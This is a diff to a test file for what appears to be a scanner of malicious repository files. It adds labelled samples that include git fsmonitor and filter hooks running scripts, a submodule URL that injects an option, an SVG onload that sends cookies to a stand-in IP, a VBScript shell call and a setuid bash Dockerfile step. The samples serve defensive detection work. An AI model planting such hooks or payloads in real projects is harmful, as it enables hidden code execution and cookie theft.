@@ -102,4 +102,44 @@ CASES = {
     "git_config": text(f'[core]\n\tfsmonitor = "{PIPE}"\n', "config", Verdict.MALICIOUS),
     "entered": text(f"{PIPE}\n", ".envrc", Verdict.MALICIOUS),
     "desktop": text(f'[Desktop Entry]\nType=Application\nExec=sh -c "{PIPE}"\n', "model.desktop", Verdict.MALICIOUS),
+    "git_filter": text('[filter "acme"]\n\tsmudge = sh run.sh\n', "config", Verdict.REVIEW),
+    "git_monitor": text("[core]\n\tbare = false\n\tfsmonitor = ./run.sh\n", "config", Verdict.REVIEW),
+    "git_submodule": text('[submodule "x"]\n\tpath = x\n\turl = -u./run.sh\n', ".gitmodules", Verdict.REVIEW),
+    "workflow": text(
+        f"on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: {PIPE}\n", "ci.yml", Verdict.REVIEW
+    ),
+    "project": text(f'name: x\nentry_points:\n  main:\n    command: "{PIPE}"\n', "MLproject", Verdict.REVIEW),
+    "crontab": text(f"* * * * * {PIPE}\n", "crontab", Verdict.REVIEW),
+    "page": text('<html><script>eval(atob("YWxlcnQoMSk="))</script></html>', "index.html", Verdict.REVIEW),
+    "picture": text(
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'http://192.0.2.1/\'+document.cookie)"/>',
+        "logo.svg",
+        Verdict.REVIEW,
+    ),
+    "application": text(
+        '<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>', "a.hta", Verdict.REVIEW
+    ),
+    "dockerfile_user_id": text("FROM x\nRUN cp /bin/bash /b && chmod u+s /b\n", "Dockerfile", Verdict.REVIEW),
+    "benign_git": text(
+        "[core]\n\tbare = false\n\tfsmonitor = true\n\tsshCommand = ssh -i key\n"
+        '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n'
+        '\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n[filter "nbstripout"]\n'
+        '\tclean = "/usr/bin/python3" -m nbstripout\n[remote "origin"]\n\turl = https://example.com/x\n'
+        "[credential]\n\thelper = !gh auth git-credential\n[alias]\n\tst = !git status\n",
+        "config",
+        Verdict.CLEAN,
+    ),
+    "benign_workflow": text(
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
+        "      - run: |\n          pip install -e .\n"
+        "          curl -LsSf https://example.com/uv/install.sh | sh\n",
+        "ci.yml",
+        Verdict.CLEAN,
+    ),
+    "benign_page": text(
+        "<html><script>fetch('/api/predict').then(r => r.json()); const x = atob('aGk=');</script></html>",
+        "index.html",
+        Verdict.CLEAN,
+    ),
+    "benign_picture": text('<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>', "logo.svg", Verdict.CLEAN),
 }
